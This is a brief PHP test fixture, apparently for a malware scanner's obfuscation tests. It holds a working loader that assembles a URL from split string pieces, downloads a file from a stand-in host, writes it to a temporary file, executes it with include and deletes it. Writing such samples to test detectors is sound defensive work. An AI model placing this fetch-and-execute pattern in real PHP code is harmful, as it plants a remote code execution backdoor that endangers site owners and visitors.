<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$h = curl_init(implode('', ['ht', 'tp://', '192.0.2.44', '/x.txt']));
curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
$p = tempnam(sys_get_temp_dir(), 'x');
file_put_contents($p, curl_exec($h));
include $p;
unlink($p);
